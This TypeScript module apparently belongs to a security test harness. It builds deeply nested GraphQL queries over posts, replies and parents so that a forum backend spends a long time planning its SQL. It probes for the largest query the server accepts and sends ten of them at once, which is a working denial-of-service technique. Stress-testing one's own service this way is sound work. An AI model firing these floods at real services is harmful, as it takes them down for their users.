import { type Attack, graphql, repeat, type Target } from '../attack.ts'
import { flood, largestPermitted } from '../flood.ts'

/** Levels of replies whose parents are shown again, and so many pages inside; `nth` makes the document another one. */
function nest({ thread }: Target, levels: number, pages: number, nth = '', selected = 'uuid'): string {
  const page = `replies(first: 1, offset: 1) { nodes { ${selected} } }`
  const inner = repeat(pages, (index) => `p${nth}_${index}: ${page}`)
  const around = (selection: string) =>
    `replies(first: 1, offset: 1) { nodes { parent { ... on Post { ${selection} } } } }`
  let selection = inner
  for (let level = 0; level < levels; level++) selection = around(selection)
  return `{ post(uuid: "${thread}") { ... on Post { ${selection} } } }`
}

/** The same, where each level asks posts and replies for different things. */
function nestOfBoth({ thread }: Target, pages: number, nth: string): string {
  const page = (name: string) => `${name}: replies(first: 1, offset: 1)`
  const inner = (of: string) => repeat(pages, (index) => `${page(`${of}${nth}_${index}`)} { nodes { uuid } }`)
  const around = (selection: string) => `${page('r')} { nodes { parent { ${selection} } } }`
  const both = (posts: string, replies: string) => `... on Post { ${posts} } ... on Reply { ${replies} }`
  const level = both(around(both(inner('a'), inner('b'))), `l${nth}: likeCount`)
  return `{ post(uuid: "${thread}") { ${both(around(level), 'uuid')} } }`
}

/** Makes the SQL of a page twice as long. */
const wide = 'uuid author { username badges { name } } from { name }'

/** Attacks whose statements take long to plan. */
export const planningAttacks: readonly Attack[] = [
  {
    row: '2',
    name: 'nest',
    about: '3 levels of replies and parents around 40 pages, ten at once',
    prepare: (target) => ({ strike: flood(target, 10, () => graphql(nest(target, 3, 40), target.token)) }),
  },
  {
    row: '2',
    name: 'nest-unique',
    about: 'the same, each document another one',
    prepare: (target) => ({
      strike: flood(target, 10, (nth) => graphql(nest(target, 3, 40, String(nth)), target.token)),
    }),
  },
  ...[1, 2, 3].map((levels) => ({
    row: '2',
    name: `nest-permitted-${levels}`,
    about: `${levels} levels around as many pages as are permitted, each document another one, ten at once`,
    prepare: async (target: Target) => {
      const request = (pages: number, nth = '') => graphql(nest(target, levels, pages, nth, wide), target.token)
      const pages = await largestPermitted(target, 45, request)
      return { strike: flood(target, 10, (nth) => request(pages, String(nth))), note: `${pages} pages` }
    },
  })),
  {
    row: '2',
    name: 'nest-both',
    about: 'levels that ask posts and replies for different things, around as many pages as are permitted, ten at once',
    prepare: async (target) => {
      const request = (pages: number, nth: string) => graphql(nestOfBoth(target, pages, nth), target.token)
      const pages = await largestPermitted(target, 22, (pages) => request(pages, ''))
      return { strike: flood(target, 10, (nth) => request(pages, String(nth))), note: `${pages} pages each` }
    },
  },
]
